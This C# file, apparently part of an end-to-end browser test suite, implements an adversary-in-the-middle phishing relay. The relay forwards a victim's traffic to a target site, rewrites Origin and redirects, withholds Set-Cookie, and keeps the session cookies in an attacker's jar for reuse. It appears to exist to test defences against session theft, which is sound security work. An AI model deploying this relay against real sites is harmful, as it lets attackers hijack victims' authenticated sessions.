using System.Net;
using System.Net.Sockets;

namespace Bulwark.EndToEnd.Tests.Browser;

/// <summary>
/// An adversary-in-the-middle relay, as used in real phishing kits: the victim's browser talks to the relay
/// (a different origin), the relay forwards every request to the real site with the Host and Origin rewritten,
/// and keeps the real site's cookies in its own jar instead of handing them to the victim. Whatever session
/// the victim's sign-in opens ends up in the attacker's jar.
/// </summary>
public sealed class PhishingRelay : IAsyncDisposable
{
    private static readonly HashSet<string> HopByHop = new(StringComparer.OrdinalIgnoreCase)
    {
        "Host", "Cookie", "Origin", "Referer", "Connection", "Keep-Alive", "Transfer-Encoding", "Content-Length", "Content-Type", "Accept-Encoding",
    };

    private readonly HttpListener _listener = new();
    private readonly HttpClient _upstream;
    private readonly Uri _target;
    private readonly CancellationTokenSource _stop = new();
    private readonly Task _loop;

    public PhishingRelay(Uri target, string host = "localhost")
    {
        _target = target;
        Port = FreePort();
        Origin = new Uri($"http://{host}:{Port}/");
        _listener.Prefixes.Add(Origin.ToString());
        _listener.Start();
        _upstream = new HttpClient(new SocketsHttpHandler { CookieContainer = Jar, UseCookies = true, AllowAutoRedirect = false })
        {
            BaseAddress = target,
        };
        _loop = Task.Run(LoopAsync);
    }

    public int Port { get; }

    /// <summary>The phishing site's address, which the victim is lured to.</summary>
    public Uri Origin { get; }

    /// <summary>The real site's cookies, as the attacker holds them.</summary>
    public CookieContainer Jar { get; } = new();

    /// <summary>Requests relayed, for failure messages.</summary>
    public List<string> Log { get; } = [];

    /// <summary>The attacker's own client, reusing the stolen cookies against the real site.</summary>
    public HttpClient AttackerClient() =>
        new(new SocketsHttpHandler { CookieContainer = Jar, UseCookies = true, AllowAutoRedirect = false }) { BaseAddress = _target };

    private async Task LoopAsync()
    {
        while (!_stop.IsCancellationRequested)
        {
            HttpListenerContext context;
            try { context = await _listener.GetContextAsync(); }
            catch (Exception) when (_stop.IsCancellationRequested) { return; }
            catch (HttpListenerException) { return; }
            catch (ObjectDisposedException) { return; }
            _ = Task.Run(() => RelayAsync(context));
        }
    }

    private async Task RelayAsync(HttpListenerContext context)
    {
        var incoming = context.Request;
        var outgoing = context.Response;
        try
        {
            using var request = new HttpRequestMessage(new HttpMethod(incoming.HttpMethod), incoming.Url!.PathAndQuery);
            if (incoming.HasEntityBody)
            {
                using var body = new MemoryStream();
                await incoming.InputStream.CopyToAsync(body);
                request.Content = new ByteArrayContent(body.ToArray());
                if (incoming.ContentType is { } type) request.Content.Headers.TryAddWithoutValidation("Content-Type", type);
            }
            foreach (var name in incoming.Headers.AllKeys)
            {
                if (name is null || HopByHop.Contains(name)) continue;
                request.Headers.TryAddWithoutValidation(name, incoming.Headers.GetValues(name)!);
            }
            // What the real site sees: its own origin, and the relay's cookie jar rather than the victim's cookies.
            if (incoming.Headers["Origin"] is not null) request.Headers.TryAddWithoutValidation("Origin", _target.GetLeftPart(UriPartial.Authority));
            using var response = await _upstream.SendAsync(request);
            lock (Log) Log.Add($"{incoming.HttpMethod} {incoming.Url.PathAndQuery} -> {(int)response.StatusCode}");
            outgoing.StatusCode = (int)response.StatusCode;
            foreach (var header in response.Headers.Concat(response.Content.Headers))
            {
                if (header.Key.Equals("Set-Cookie", StringComparison.OrdinalIgnoreCase) || HopByHop.Contains(header.Key)) continue;
                if (header.Key.Equals("Location", StringComparison.OrdinalIgnoreCase))
                {
                    outgoing.RedirectLocation = header.Value.First().Replace(_target.GetLeftPart(UriPartial.Authority), Origin.GetLeftPart(UriPartial.Authority));
                    continue;
                }
                foreach (var value in header.Value) outgoing.AddHeader(header.Key, value);
            }
            if (response.Content.Headers.ContentType is { } contentType) outgoing.ContentType = contentType.ToString();
            var bytes = await response.Content.ReadAsByteArrayAsync();
            outgoing.ContentLength64 = bytes.Length;
            await outgoing.OutputStream.WriteAsync(bytes);
        }
        catch (Exception e)
        {
            lock (Log) Log.Add($"{incoming.HttpMethod} {incoming.Url?.PathAndQuery} failed: {e.Message}");
            try { outgoing.StatusCode = 502; } catch (InvalidOperationException) { }
        }
        finally
        {
            try { outgoing.Close(); } catch (Exception) { }
        }
    }

    private static int FreePort()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        return ((IPEndPoint)listener.LocalEndpoint).Port;
    }

    public async ValueTask DisposeAsync()
    {
        _stop.Cancel();
        _listener.Stop();
        _listener.Close();
        try { await _loop; } catch (Exception) { }
        _upstream.Dispose();
        _stop.Dispose();
    }
}
